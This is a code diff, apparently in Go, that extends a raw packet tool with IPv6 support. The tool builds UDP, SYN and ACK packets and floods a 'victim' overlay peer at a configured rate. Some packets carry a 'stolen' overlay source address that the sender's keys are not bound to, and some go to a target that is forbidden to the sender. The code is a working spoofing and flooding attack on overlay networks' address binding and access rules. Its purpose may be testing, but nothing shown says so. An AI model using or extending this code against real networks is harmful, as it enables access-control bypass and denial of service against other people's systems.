@@ -26,7 +26,9 @@ type Config struct {
 	Peer     netip.AddrPort `json:"peer"`     // the victim's underlay endpoint
 	Own      netip.Addr     `json:"own"`      // an overlay address that the keys are bound to
 	Stolen   netip.Addr     `json:"stolen"`   // one that they are not bound to
+	Own6     netip.Addr     `json:"own6"`     // Own's twin
 	Target   netip.AddrPort `json:"target"`   // forbidden to Own
+	Target6  netip.AddrPort `json:"target6"`  // Target's twin
 	Open     uint16         `json:"open"`     // a port of the target that Stolen may reach
 	Rate     int            `json:"rate"`     // packets a second
 }
@@ -68,6 +70,7 @@ func (c Config) flood(ctx context.Context, out chan<- []byte) error {
 		udpPacket(c.Own, c.Target), synPacket(c.Own, c.Target), ackPacket(c.Own, c.Target),
 		udpPacket(c.Stolen, netip.AddrPortFrom(c.Target.Addr(), c.Target.Port())),
 		synPacket(c.Stolen, netip.AddrPortFrom(c.Target.Addr(), c.Open)),
+		udpPacket(c.Own6, c.Target6), synPacket(c.Own6, c.Target6),
 	}
 	tick := time.NewTicker(time.Second / time.Duration(c.Rate))
 	defer tick.Stop()
@@ -91,7 +94,20 @@ func (c Config) flood(ctx context.Context, out chan<- []byte) error {
 // sourcePort of every packet that it makes.
 const sourcePort = 40000
 
-// ipv4 puts an IPv4 header (RFC 791) before a payload.
+// ip puts the header of the addresses' family before a payload.
+func ip(proto byte, src, dst netip.Addr, payload []byte) []byte {
+	if src.Is4() {
+		return ipv4(proto, src, dst, payload)
+	}
+	p := make([]byte, 40, 40+len(payload)) // RFC 8200, section 3
+	p[0], p[6], p[7] = 0x60, proto, 64
+	binary.BigEndian.PutUint16(p[4:], uint16(len(payload)))
+	copy(p[8:24], src.AsSlice())
+	copy(p[24:40], dst.AsSlice())
+	return append(p, payload...)
+}
+
+// ipv4 is the header of RFC 791.
 func ipv4(proto byte, src, dst netip.Addr, payload []byte) []byte {
 	p := make([]byte, 20, 20+len(payload))
 	p[0], p[8], p[9] = 0x45, 64, proto
@@ -108,7 +124,7 @@ func udpPacket(src netip.Addr, dst netip.AddrPort) []byte {
 	binary.BigEndian.PutUint16(u[2:], dst.Port())
 	binary.BigEndian.PutUint16(u[4:], uint16(len(u)))
 	binary.BigEndian.PutUint16(u[6:], ^fold(sum(u)+pseudo(17, src, dst.Addr(), len(u))))
-	return ipv4(17, src, dst.Addr(), u)
+	return ip(17, src, dst.Addr(), u)
 }
 
 func synPacket(src netip.Addr, dst netip.AddrPort) []byte { return tcpPacket(src, dst, 0x02) }
@@ -122,7 +138,7 @@ func tcpPacket(src netip.Addr, dst netip.AddrPort, flags byte) []byte {
 	t[12], t[13] = 5<<4, flags
 	binary.BigEndian.PutUint16(t[14:], 0xffff)
 	binary.BigEndian.PutUint16(t[16:], ^fold(sum(t)+pseudo(6, src, dst.Addr(), len(t))))
-	return ipv4(6, src, dst.Addr(), t)
+	return ip(6, src, dst.Addr(), t)
 }
 
 // sum, fold and pseudo are the Internet checksum (RFC 1071) and its pseudo header.
